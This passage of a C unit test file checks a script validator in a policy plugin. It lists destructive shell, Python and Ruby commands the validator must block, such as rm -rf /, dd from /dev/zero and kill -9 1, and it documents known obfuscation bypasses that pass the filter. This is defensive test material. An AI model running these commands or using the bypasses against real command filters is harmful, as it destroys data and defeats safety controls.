        "echo ok; rm x", "true && rm x", "false || rm x", "(rm x)", "{ rm x; }", "echo $(rm x)",
        "echo `rm x`", "cat <(rm x)", "sudo -u root rm x", "env -i PATH=/bin rm x",
        "exec rm x", "command rm x", "nohup rm x &", "timeout 5 rm x", "nice -n 10 rm x",
        "time rm x", "echo x | xargs rm", "find /tmp -name a -exec rm {} \\;", "bash -c 'rm x'",
        "sh -ec \"rm -rf /\"", "eval 'rm x'", "FOO=1 rm x", "if true; then rm x; fi",
        "while true; do rm x; done", "x=$( (rm x) )", "cat <<EOF\n$(rm x)\nEOF\n",
        "echo a; \\\nrm x", "setsid rm x", "doas rm x", "env -S 'rm x'", "builtin command rm x",
    };
    for (size_t i = 0; i < sizeof sh_cases / sizeof sh_cases[0]; i++) {
        sx_error err;
        ck_assert_msg(check("/bin/bash", sh_cases[i], NULL, &err, NULL) == -1, "not caught: %s",
                      sh_cases[i]);
        ck_assert_str_eq(err.code, "blocked_command");
    }
    const char *py_cases[] = {
        "import os\nos.system('rm -rf /tmp/x')\n", "import subprocess\nsubprocess.run(['rm', '-rf', '/'])\n",
        "import subprocess as sp\nsubprocess.call(\"sudo ls\", shell=True)\n",
        "from subprocess import check_output\ncheck_output(['/bin/rm', 'x'])\n",
        "import os\nos.popen(\"bash -c 'rm x'\")\n",
    };
    for (size_t i = 0; i < sizeof py_cases / sizeof py_cases[0]; i++) {
        sx_error err;
        ck_assert_msg(check("python3", py_cases[i], NULL, &err, NULL) == -1, "not caught: %s",
                      py_cases[i]);
    }
    const char *rb_cases[] = {"system('rm -rf /tmp/x')\n", "`rm x`\n", "%x(sudo ls)\n",
                              "exec('reboot')\n", "Process.spawn('rm', 'x')\n",
                              "require 'open3'\nOpen3.capture2('dd if=/dev/zero')\n"};
    for (size_t i = 0; i < sizeof rb_cases / sizeof rb_cases[0]; i++) {
        sx_error err;
        ck_assert_msg(check("ruby", rb_cases[i], NULL, &err, NULL) == -1, "not caught: %s",
                      rb_cases[i]);
    }
    /* multi-word rules see options anywhere and in clusters */
    blocked("/bin/sh", "kill -TERM -9 1", "kill -9");
    blocked("/bin/sh", "chmod -R +s d", "chmod +s");
    stop();
}
END_TEST

/* The known limits (docs/policy.md): a filter on a Turing-complete script
 * cannot see these.  They pass the validator; the backend's sandbox is the
 * boundary.  If one starts being caught, update the documentation. */
START_TEST(validator_known_limits)
{
    start("");
    passes("/bin/bash", "x=r; ${x}m -rf /tmp/x", NULL);
    passes("/bin/bash", "$(printf '\\x72m') -rf /tmp/x", NULL);
    passes("/bin/bash", "python3 -c \"import os; os.system('rm -rf /tmp/x')\"", NULL);
    passes("/bin/bash", "perl -e 'unlink \"/tmp/x\"'", NULL);
    passes("/bin/bash", "kill -s KILL 1234; kill -SIGKILL 1", NULL);
    passes("/bin/bash", "chmod u+s f; chmod 4755 f", NULL);
    passes("/bin/bash", "alias ll=rm; source ./helper.sh; bash ./other.sh", NULL);
    passes("python3", "import os\ncmd = 'rm -rf /tmp/x'\nos.system(cmd)\n", NULL);
    passes("python3", "import os\ngetattr(os, 'sys' + 'tem')('rm x')\n", NULL);
    passes("ruby", "cmd = 'rm x'\nsystem(cmd)\n", NULL);
    stop();
}
END_TEST

START_TEST(validator_limits_and_interpreters)
{
    start("  security: {max_script_size: 64, max_script_lines: 3}\n");
    sx_error err;
    ck_assert_int_eq(check("/bin/sh", "echo 1\necho 2\necho 3\necho 4\n", NULL, &err, NULL), -1);
    ck_assert_str_eq(err.code, "script_too_large");
    ck_assert_ptr_nonnull(strstr(err.message, "4 lines"));
    passes("/bin/sh", "echo 1\necho 2\necho 3\n", NULL);
    char big[100];
    memset(big, '#', sizeof big - 1);
    big[99] = '\0';
    ck_assert_int_eq(check("/bin/sh", big, NULL, &err, NULL), -1);
    ck_assert_str_eq(err.code, "script_too_large");
    ck_assert_int_eq(check("perl", "print 1", NULL, &err, NULL), -1);
    ck_assert_str_eq(err.code, "invalid_parameter");
    stop();
    /* nesting beyond the scanner's limit: refused, not half-checked */
    start("");
    size_t n = 70;
    char *deep = malloc(n * 4 + 16);
    size_t o = 0;
    for (size_t i = 0; i < n; i++)
        o += (size_t)sprintf(deep + o, "$(");
    o += (size_t)sprintf(deep + o, "ls");
    for (size_t i = 0; i < n; i++)
        deep[o++] = ')';
    deep[o] = '\0';
    ck_assert_int_eq(check("/bin/bash", deep, NULL, &err, NULL), -1);
    ck_assert_str_eq(err.code, "script_too_complex");
    free(deep);
    stop();
}
END_TEST

static Suite *suite(void)
{
    Suite *s = suite_create("policy");
    TCase *tc = tcase_create("plugin");
    tcase_add_unchecked_fixture(tc, unit_setup, unit_teardown);
    tcase_set_timeout(tc, 60);
    tcase_add_test(tc, config_defaults_and_describe);
    tcase_add_test(tc, config_errors);
    tcase_add_test(tc, describe_has_no_secret);
    tcase_add_test(tc, authenticate_peer_uid);
    tcase_add_test(tc, authenticate_jwt_claims);
    tcase_add_test(tc, rbac_required_permission);
    tcase_add_test(tc, rbac_deny_by_default);
    tcase_add_test(tc, rbac_executor_permissions);
    tcase_add_test(tc, rbac_service_accounts);
    tcase_add_test(tc, limits_caps);
    tcase_add_test(tc, limits_default_resources);
    tcase_add_test(tc, validator_rules);
    tcase_add_test(tc, validator_every_finding);
    tcase_add_test(tc, validator_allowlist);
    tcase_add_test(tc, validator_bypasses_caught);
    tcase_add_test(tc, validator_known_limits);
    tcase_add_test(tc, validator_limits_and_interpreters);
    suite_add_tcase(s, tc);
    return s;
}

int main(void)
{
    return sx_check_run(suite());
}
